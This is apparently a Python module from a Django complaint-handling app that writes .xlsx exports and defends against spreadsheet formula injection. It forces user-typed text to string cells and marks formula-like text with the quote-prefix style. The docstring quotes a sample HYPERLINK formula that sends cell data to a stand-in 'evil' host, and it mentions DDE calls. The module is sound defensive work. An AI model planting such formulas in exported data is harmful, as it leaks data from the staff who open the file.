"""The one way complaintdesk writes .xlsx files: every export (worklists, the complaint ledger,
whatever comes next) goes through XlsxSheet; no other module imports openpyxl
(tests/test_xlsx_exports.py fails if one does).

Why: a complaint's title or description is typed by anyone, an anonymous portal visitor too.
openpyxl turns a string that starts with "=" into a live formula (and "#N/A" into an error
value), so `=HYPERLINK("http://evil/?"&A2, "details")` or a DDE call in a title would run in
the spreadsheet of the staff who open the export. Here every string is written as a string
cell (data_type "s", an inline string in the file): Excel and LibreOffice show it as text and
never evaluate it, whatever it starts with. We do NOT prefix such text with an apostrophe (the
CSV advice): in an xlsx file the apostrophe would become part of the value, the export would no
longer say what the customer wrote, and a string cell needs no escape. Instead a cell whose text
starts like a formula also gets the "quote prefix" style, which is what Excel itself records when
a user types '=…: the text stays text even when someone edits the cell and presses Enter.

Numbers, dates and times stay typed (sorting and filtering in the sheet work); aware datetimes
are written as local wall-clock time (Excel has no time zones)."""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

from django.utils import timezone

# What spreadsheet programs read as the start of a formula when text is typed or re-parsed;
# the full-width forms too (an East Asian IME types them).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Excel refuses a cell longer than this (the file opens only after a "repair").
MAX_CELL_CHARS = 32_767
# Characters XML 1.0 cannot carry (openpyxl would raise on them): shown as U+FFFD instead.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_BAD_TITLE = re.compile(r"[\\*?:/\[\]]")
_TYPED = (bool, int, float, Decimal, dt.date, dt.time, dt.timedelta)


def xlsx_text(value: Any) -> str:
    """The text a cell shows for a value that is not a number or a date."""
    text = _ILLEGAL.sub("\ufffd", str(value))
    if len(text) > MAX_CELL_CHARS:
        text = text[: MAX_CELL_CHARS - 1] + "…"
    return text


def sheet_title(title: str) -> str:
    # Worksheet names: at most 31 characters, none of \ * ? : / [ ].
    cleaned = _BAD_TITLE.sub("_", xlsx_text(title)).strip("'")[:31]
    return cleaned or "Sheet"


class XlsxSheet:
    """A workbook with one worksheet, written row by row (openpyxl's write-only mode: rows go
    straight to the file, not into a model of the whole sheet).

        sheet = XlsxSheet(title, widths=(20, 40))
        sheet.header(["Number", "Title"])
        for ticket in tickets:
            sheet.row([ticket.number, ticket.title])
        sheet.save(out)
    """

    def __init__(self, title: str, *, widths: Iterable[float] = ()):
        # openpyxl is imported here, not at module level: only an export pays for loading it.
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.cell.cell import ERROR_CODES
        from openpyxl.styles import Font
        from openpyxl.utils import get_column_letter

        self._new_cell = WriteOnlyCell
        self._error_codes = frozenset(ERROR_CODES)
        self._bold = Font(bold=True)
        self._book = Workbook(write_only=True)
        self._ws = self._book.create_sheet(title=sheet_title(title))
        for index, width in enumerate(widths, start=1):
            if width:
                self._ws.column_dimensions[get_column_letter(index)].width = width
        self.rows = 0  # rows appended so far, header and notes included

    def cell(self, value: Any, *, bold: bool = False):
        """What to append for one value: numbers, dates and None keep their type; everything
        else is text. Plain text is handed to openpyxl as it is (it makes any string a string
        cell unless it starts with "=" or is an error code such as "#N/A", and a cell object
        per value would cost twice the time of a 10,000-row export); text that looks like a
        formula or an error gets a cell of its own, forced to be a string."""
        if isinstance(value, dt.datetime) and timezone.is_aware(value):
            value = timezone.localtime(value).replace(tzinfo=None)
        if value is None or isinstance(value, _TYPED):
            if not bold:
                return value
            cell = self._new_cell(self._ws, value=value)
        else:
            value = xlsx_text(value)
            formula_like = value.startswith(FORMULA_START)
            if not (bold or formula_like or value in self._error_codes):
                return value
            cell = self._new_cell(self._ws, value=value)
            # openpyxl has just guessed "f" (formula) for "=…" and "e" (error) for "#N/A":
            # it is text, whatever it looks like.
            cell.data_type = "s"
            if formula_like:
                cell.quotePrefix = True
        if bold:
            cell.font = self._bold
        return cell

    def header(self, titles: Iterable[Any]) -> None:
        self._ws.append([self.cell(t, bold=True) for t in titles])
        self.rows += 1

    def row(self, values: Iterable[Any]) -> None:
        self._ws.append([self.cell(v) for v in values])
        self.rows += 1

    def note(self, text: str, *, gap: bool = True) -> None:
        """A line of explanation under the rows (e.g. that the export was cut)."""
        if gap:
            self._ws.append([])
            self.rows += 1
        self.row([text])

    def save(self, out: IO[bytes]) -> None:
        self._book.save(out)
